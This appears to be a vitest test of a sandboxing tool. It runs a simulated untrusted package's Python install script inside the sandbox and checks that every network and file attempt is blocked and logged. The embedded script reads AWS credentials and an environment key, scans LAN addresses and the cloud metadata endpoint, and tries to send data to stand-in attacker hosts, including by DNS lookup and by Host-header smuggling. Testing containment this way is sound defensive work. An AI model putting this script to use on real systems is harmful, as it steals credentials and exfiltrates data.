import * as fs from "node:fs"
import { homedir } from "node:os"
import { join } from "node:path"
import { afterAll, assert, beforeAll, describe, it } from "vitest"
import { type Installation, installation } from "../support/installation.ts"
import { networkHost } from "../support/network/host.ts"
import { temporaryFolder } from "../support/pyro-cli.ts"

// The story of an untrusted package: its install script reads credentials, scans the LAN and calls home.

const CREDENTIAL = "AKIA-the-person's-own"

/** The script of the package, as a program of the host would run it. It prints what it got. */
const INSTALL_SCRIPT = `
import glob, os, socket, urllib.request
def attempt(name, work):
  try: print(name, "got", work())
  except Exception as error: print(name, "failed", type(error).__name__)
def read(): return [open(one).read() for one in glob.glob(os.path.expanduser("~/.aws/*"))] or 1 / 0
def connect(address): return socket.create_connection(address, 9) and address[0]
def fetch(url, data=None): return urllib.request.urlopen(url, data, 9).read().decode().strip()
attempt("registry", lambda: fetch("http://server.test.net/"))
attempt("credentials", read)
attempt("environment", lambda: os.environ["CLOUD_KEY"])
for last in (1, 2, 3): attempt("LAN", lambda: connect(("192.168.7.%d" % last, 80)))
attempt("metadata", lambda: fetch("http://169.254.169.254/latest/meta-data/"))
attempt("home by name", lambda: fetch("http://other.test.net/", b"stolen"))
attempt("home by address", lambda: connect(("203.0.113.10", 9)))
attempt("home in a look-up", lambda: socket.gethostbyname("stolen-bytes.evil.test.net"))
attempt("home behind the registry", lambda: urllib.request.urlopen(urllib.request.Request("http://server.test.net/", b"stolen", {"Host": "other.test.net"}), None, 9).read())
`

const { folder, remove } = temporaryFolder("pyro-untrusted-")
const home = join(folder, "home")
const project = join(folder, "project")
let host: Awaited<ReturnType<typeof networkHost>>
let pyro: Installation
beforeAll(async () => {
  fs.mkdirSync(join(home, ".aws"), { recursive: true })
  fs.writeFileSync(join(home, ".aws", "credentials"), CREDENTIAL)
  fs.mkdirSync(project)
  fs.writeFileSync(join(project, "install.py"), INSTALL_SCRIPT)
  host = await networkHost()
  // The cache of this machine's environments does not move with the home directory.
  const PYRO_CACHE_DIR = process.env["PYRO_CACHE_DIR"] ?? join(homedir(), ".cache", "pyro")
  pyro = installation("pyro-untrusted-", {
    enter: host.enter,
    env: { HOME: home, PYRO_CACHE_DIR, CLOUD_KEY: CREDENTIAL }
  })
})
afterAll(async () => {
  await pyro.close()
  await host.close()
  remove()
})

/** Paths and contents of the host's files that the package was after. */
const hostFiles = () =>
  [join(home, ".aws", "credentials"), join(project, "install.py")].map((file) => fs.readFileSync(file, "utf8"))

describe("an untrusted package", () => {
  it("its install script gets the registry and nothing else, and the log shows each attempt", async () => {
    const before = hostFiles()
    await pyro.create(["--name", "a", "--seed-path", project, "--allow-host", "server.test.net"])
    const printed = await pyro.sh("a", "python3 install.py")
    assert.deepStrictEqual(printed.split("\n"), [
      "registry got hello server.test.net",
      "credentials failed ZeroDivisionError",
      "environment failed KeyError",
      ...["LAN", "LAN", "LAN"].map((name) => `${name} failed ConnectionRefusedError`),
      "metadata failed URLError",
      "home by name failed URLError",
      "home by address failed ConnectionRefusedError",
      "home in a look-up failed gaierror",
      "home behind the registry failed ConnectionResetError"
    ])
    const { entries } = await pyro.json<{
      readonly entries: ReadonlyArray<{ readonly host: string; readonly port?: number; readonly bytes_out: number }>
    }>(["workspace", "network", "log", "a", "--denied"])
    assert.sameMembers(entries.map(({ host, port }) => port === undefined ? host : `${host}:${port}`), [
      "192.168.7.1:80",
      "192.168.7.2:80",
      "192.168.7.3:80",
      "169.254.169.254:80",
      "other.test.net",
      "203.0.113.10:9",
      "stolen-bytes.evil.test.net",
      "server.test.net:80"
    ])
    assert.isTrue(entries.every(({ bytes_out: sent }) => sent === 0))
    assert.deepStrictEqual(hostFiles(), before)
  })
})
